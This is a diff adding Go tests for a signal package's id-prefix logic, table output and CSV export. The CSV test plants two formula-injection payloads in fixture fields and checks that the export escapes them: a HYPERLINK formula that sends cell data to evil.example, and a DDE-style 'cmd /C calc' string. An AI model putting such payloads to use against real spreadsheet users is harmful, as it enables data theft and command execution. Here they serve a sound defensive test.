@@ -3,10 +3,13 @@ package signal
 import (
 	"bufio"
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"path/filepath"
 	"regexp"
+	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -298,5 +301,104 @@ func TestSort(t *testing.T) {
 	}
 	if diff := cmp.Diff([]string{"x", "y", "z", "a", "b", "w"}, got); diff != "" {
 		t.Errorf("Sort order (-want +got):\n%s", diff)
+	}
+}
+
+// TestUniquePrefixLen: the prefix is long enough to tell every two ids apart, never
+// shorter than asked, and equal ids do not lengthen it.
+func TestUniquePrefixLen(t *testing.T) {
+	sig := func(ids ...string) []Signal {
+		var out []Signal
+		for _, id := range ids {
+			out = append(out, Signal{ID: id})
+		}
+		return out
+	}
+	tests := []struct {
+		ids  []string
+		min  int
+		want int
+	}{
+		{nil, 12, 12},
+		{[]string{"aaaa1111"}, 4, 4},
+		{[]string{"aaaa1111", "aaab2222"}, 2, 4},
+		{[]string{"aaaa1111", "bbbb", "aaaa1112", "aaaa1111"}, 2, 8},
+		{[]string{"abc", "abcd"}, 1, 4},
+	}
+	for _, tt := range tests {
+		if got := UniquePrefixLen(sig(tt.ids...), tt.min); got != tt.want {
+			t.Errorf("UniquePrefixLen(%v, %d) = %d, want %d", tt.ids, tt.min, got, tt.want)
+		}
+	}
+}
+
+// TestWriteTableIDs: every row shows a prefix of its signal's id that no other signal
+// of the table has, at every width.
+func TestWriteTableIDs(t *testing.T) {
+	signals := fixtures()
+	for i := range signals { // ids that share a long prefix
+		signals[i].ID = fmt.Sprintf("0123456789abcd%06d", i)
+	}
+	for _, width := range []int{10, 50, 80, 200} {
+		var buf bytes.Buffer
+		if err := WriteTable(&buf, signals, TableOptions{Width: width, Compact: true}); err != nil {
+			t.Fatal(err)
+		}
+		rows := strings.Split(strings.TrimSpace(buf.String()), "\n")[1:]
+		if len(rows) != len(signals) {
+			t.Fatalf("width %d: %d rows for %d signals", width, len(rows), len(signals))
+		}
+		for _, row := range rows {
+			id := strings.Fields(row)[1]
+			var matches int
+			for _, s := range signals {
+				if strings.HasPrefix(s.ID, id) {
+					matches++
+				}
+			}
+			if matches != 1 || len(id) < MinIDPrefix {
+				t.Errorf("width %d: row id %q names %d signals", width, id, matches)
+			}
+		}
+	}
+}
+
+// TestWriteCSV: one row per signal under the header, every cell as the JSON form says it
+// (lists joined by spaces), no control character and no cell a spreadsheet reads as a
+// formula; the golden file pins the layout.
+func TestWriteCSV(t *testing.T) {
+	signals := fixtures()
+	signals[0].Actor = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")"
+	signals[1].Summary = "@SUM(1+1)*cmd|' /C calc'!A0"
+	var buf bytes.Buffer
+	if err := WriteCSV(&buf, signals); err != nil {
+		t.Fatal(err)
+	}
+	golden(t, "signals.csv", buf.Bytes())
+	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != len(signals)+1 || !slices.Equal(rows[0], CSVHeader) {
+		t.Fatalf("%d rows, header %v", len(rows), rows[0])
+	}
+	for i, row := range rows[1:] {
+		s := signals[i]
+		if row[0] != s.ID || row[1] != s.Level.String() || row[13] != strconv.Itoa(s.EventCount) || row[14] != strings.Join(s.EventIDs, " ") {
+			t.Errorf("row %d = %v, want signal %s", i, row, s.ID)
+		}
+		for j, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
+				t.Errorf("row %d, %s: %q would run as a formula", i, CSVHeader[j], cell)
+			}
+			for _, r := range cell {
+				if unsafeRune(r) {
+					t.Errorf("row %d, %s: %q holds %U", i, CSVHeader[j], cell, r)
+				}
+			}
+		}
+	}
+	if !strings.Contains(rows[1][10], `'=HYPERLINK(`) {
+		t.Errorf("the formula actor is not shown as text: %q", rows[1][10])
 	}
 }
